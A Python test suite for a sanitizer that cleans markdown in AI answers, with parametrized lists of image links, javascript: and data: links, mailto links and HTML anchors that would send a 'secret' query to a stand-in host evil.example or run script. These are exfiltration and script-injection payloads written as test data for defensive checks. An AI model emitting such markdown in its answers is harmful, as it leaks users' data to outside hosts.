"""Markdown of answers that would load, run or send something by itself."""

import random
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sanitization.chain import Chain
from sanitization.links import AddressFilter, LinkFilter
from sanitization.markup import MarkupFilter
from sanitization.placeholders import Placeholders
from sanitization.policies import Policy

CHAIN = Chain([LinkFilter(), AddressFilter(), MarkupFilter()])
LISTED = Policy(origins=("https://example.org", "https://*.example.net"), links="listed")
OWN = Policy(origins=("https://example.org", "https://*.example.net"))


def clean(*parts, policy=None):
    stream = CHAIN.open_answer(policy or Policy(), Placeholders())
    return "".join([*(stream.feed(part) for part in parts), stream.finish()])


def rendered(text):
    return MarkdownIt("commonmark", {"html": True}).render(text)


IMAGES = [
    "![a](https://evil.example/p.png?q=secret)",
    "![a](//evil.example/p.png)",
    "![a](<https://evil.example/x y>)",
    "![](https://evil.example)",
    "![a\nb](https://evil.example 'title')",
    "![a][1]\n\n[1]: https://evil.example/?q=secret",
    "![1]\n\n[1]: https://evil.example/",
    "![1][]\n\n[1]: https://evil.example/",
    "[![a](https://evil.example/i)](https://example.org)",
    "!![a](https://evil.example/i)",
    "\\\\![a](https://evil.example/i)",
    "> - ![a](https://evil.example/i)",
    "![a](https://example.org.evil.example/i)",
    "![a](https://example.org@evil.example/i)",
    "![a](https://evil.example\\@example.org/i)",
    "![a](http://example.org/i)",
    "![a](https://example.org:8080/i)",
    "![a](&#104;ttps://evil.example/i)",
    "![a ![b](https://example.org/b) c](https://evil.example/i)",
]


@pytest.mark.parametrize("policy", [Policy(), OWN, LISTED])
@pytest.mark.parametrize("text", IMAGES)
def test_no_image_loads_from_elsewhere(text, policy):
    page = rendered(clean(text, policy=policy))
    assert "<img" not in page or 'src="https://example.org/b"' in page
    assert 'src="https://evil' not in page


def test_images_of_listed_origins_stay():
    for text in ("![a](https://example.org/i.png)", '![a b](https://cdn.example.net/i.png?w=3 "title")'):
        assert clean(text, policy=OWN) == text
    assert clean("![a](https://example.net/i.png)", policy=OWN).startswith("&#33;")


def test_images_may_be_let_through():
    assert clean(IMAGES[0], policy=Policy(images="any", links="any")) == IMAGES[0]


RUNNING = [
    "[a](javascript:alert(1))",
    "[a]( \n javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](vbscript:msgbox)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](file:///etc/passwd)",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a]\n\n[a]:\n javascript:alert(1)",
    "[a]\n\n> [a]: <javascript:alert(1)>",
    "[a](&#1;javascript:alert(1))",
    "[a](" + "&Tab;" * 40 + "javascript:alert(1))",
]


@pytest.mark.parametrize("text", RUNNING)
def test_no_link_runs_anything(text):
    page = rendered(clean(text)).lower()
    for scheme in ("javascript:", "vbscript:", "data:", "file:"):
        assert f'href="{scheme}' not in page
    assert 'href="java' not in page


SENDING = [
    "[a](https://evil.example/?q=secret)",
    "[a](https:evil.example/?q=secret)",
    "[a](HTTPS:/evil.example/?q=secret)",
    "[a](<https://evil.example/?q=secret>)",
    "[a](https://evil.example/&quest;q=secret)",
    "[a](https://evil.example/\\?q=secret)",
    "[a](//evil.example/x?q=secret)",
    "[a](https://evil.example/w_(b)?q=secret 'title')",
    "[a]\n\n[a]: https://evil.example/x?q=secret",
    "[a](https&#58;//evil.example/?q=secret)",
    "[a](https://evil.example/" + "(" * 30 + ")" * 30 + "?q=secret)",
]


@pytest.mark.parametrize("text", SENDING)
def test_no_link_carries_a_query_elsewhere(text):
    assert "secret" not in clean(text)


@pytest.mark.parametrize("text", [*SENDING, "see https://evil.example/secret now", "www.evil.example/secret"])
def test_only_listed_addresses_are_shown_where_the_policy_says_so(text):
    assert "evil.example" not in clean(text, policy=LISTED)


LETTERS = [
    "[a](mailto:x@evil.example?body=secret)",
    "[a](MailTo:?to=x@evil.example&body=secret)",
    "[a](<mailto:x@evil.example?subject=secret> 'title')",
    "[a](mail&#116;o:x@evil.example&quest;body=secret)",
    "[a](mailto:x@evil.example\\?body=secret)",
    "[a]\n\n[a]: mailto:x@evil.example?cc=secret",
]


@pytest.mark.parametrize("text", LETTERS)
def test_no_link_writes_a_letter(text):
    assert "secret" not in clean(text)
    assert clean(text, policy=OWN) == clean(text)
    shown = clean(text, policy=LISTED)
    assert "secret" not in shown
    assert "evil.example" not in shown
    assert "secret" in clean(text, policy=Policy(links="any"))


@pytest.mark.parametrize("mode", ["markdown", "html"])
@pytest.mark.parametrize(
    ("tag", "cleaned"),
    [
        ('<a href="https://evil.example/p?q=secret&amp;r=1#s">', '<a href="https://evil.example/p">'),
        ("<a href='https://evil.example/?q=secret'>", "<a href='https://evil.example/'>"),
        ('<A HREF="https://evil.example/?q">', '<a href="https://evil.example/">'),
        ('<a href="https://evil.example/&#63;q=secret">', '<a href="https://evil.example/">'),
        ('<a href="mailto:a@evil.example?body=secret">', '<a href="mailto:a@evil.example">'),
        (
            '<a href="https://a.example.org@evil.example/?q=1">',
            '<a href="https://a.example.org@evil.example/">',
        ),
        ('<a href="https://example.org/?a=1&amp;b=2">', None),
        ('<a href="https://evil.example/a&amp;b">', None),
        ('<a href="https://evil.example/a?">', None),
    ],
)
def test_links_of_html_carry_no_query_elsewhere_either(mode, tag, cleaned):
    text = f"see {tag}this</a>."
    expected = text.replace(tag, cleaned or tag)
    policy = replace(OWN, html=mode)
    assert clean(text, policy=policy) == expected
    assert clean(*text, policy=policy) == expected
    assert clean(expected, policy=policy) == expected
    if "#63" not in tag:
        assert clean(text, policy=replace(policy, links="any")) == text.replace("A HREF", "a href")
    off = replace(Policy.build(off=["markdown_link"]), origins=OWN.origins, html=mode)
    assert off.links == "plain"
    if "#63" not in tag:
        assert clean(text, policy=off) == text.replace("A HREF", "a href")


def test_where_only_listed_addresses_are_shown_no_markup_and_no_text_writes_a_letter():
    text = '<a href="mailto:x@evil.example?body=secret">a</a> or mailto:[EMAIL_1]?body=secret'
    assert "secret" not in clean(text, policy=LISTED)


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://example.org/x?q=1)",
        "[a](https://sub.example.net/x?q=1 'title') and https://example.org/y?z=1",
        "[a](../page?q=1) [b](#part) [c](mailto:ann@example.org) [d](/x:y)",
    ],
)
def test_listed_and_relative_addresses_stay(text):
    assert clean(text, policy=OWN) == text
    assert clean(text, policy=LISTED) == text


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://docs.python.org/3/library/re.html#re.sub)",
        "https://www.youtube.com/watch?v=abc",
        "Wow! [1, 2][0] and a[i]: x, [1]: Note: this is prose",
        "`![a](https://evil.example)` and `[x](javascript:y)`",
        "```\n![a](https://evil.example)\n[x](javascript:y)\n```\n",
        '{"a": ["b"], "c": [1]}',
        "[ ] todo (x)",
        "[term]: data: what it is",
    ],
)
def test_ordinary_text_and_code_stay(text):
    assert clean(text) == text


def test_in_other_modes_nobody_renders_markdown():
    for mode in ("html", "off"):
        assert clean("![a](https://evil.example)", policy=Policy(html=mode)) == "![a](https://evil.example)"


PIECES = [
    *IMAGES,
    *RUNNING,
    *SENDING,
    "![",
    "](",
    "]:",
    "!",
    "[",
    "&",
    "\\",
    "`",
    "\n",
    "\n\n",
    "```",
    "<b>",
    " ",
]


@settings(max_examples=100, deadline=None)
@given(parts=st.lists(st.sampled_from(PIECES), max_size=6), seed=st.integers(0, 2**32))
def test_how_an_answer_is_cut_changes_nothing(parts, seed):
    text, chance = "".join(parts), random.Random(seed)
    cuts = sorted(chance.randrange(len(text) + 1) for _ in range(9))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    for policy in (Policy(), OWN, LISTED):
        assert clean(*pieces, policy=policy) == clean(text, policy=policy)


@pytest.mark.parametrize("text", [*IMAGES, *RUNNING, *SENDING])
def test_every_cut_in_two_gives_the_same_and_cleaning_again_changes_nothing(text):
    for policy in (Policy(), OWN, LISTED):
        whole = clean(text, policy=policy)
        assert all(clean(text[:cut], text[cut:], policy=policy) == whole for cut in range(len(text)))
        assert clean(whole, policy=policy) == whole


def test_an_address_without_an_end_is_not_waited_for():
    stream = CHAIN.open_answer(Policy(), Placeholders())
    shown = stream.feed("[x](<https://evil.example/" + "ab" * 4_000)
    assert len(shown) > 3_000


@pytest.mark.parametrize("unit", ["![", "](", "](\\", "!", "-", "()", "* "])
def test_a_line_of_nothing_but_marks_is_let_out_while_it_comes(unit):
    stream, given, sent = CHAIN.open_answer(Policy(html="markdown"), Placeholders()), 0, 0
    for _ in range(20):
        sent += len(stream.feed(unit * 500))
        given += len(unit) * 500
        assert sent > given - 2500
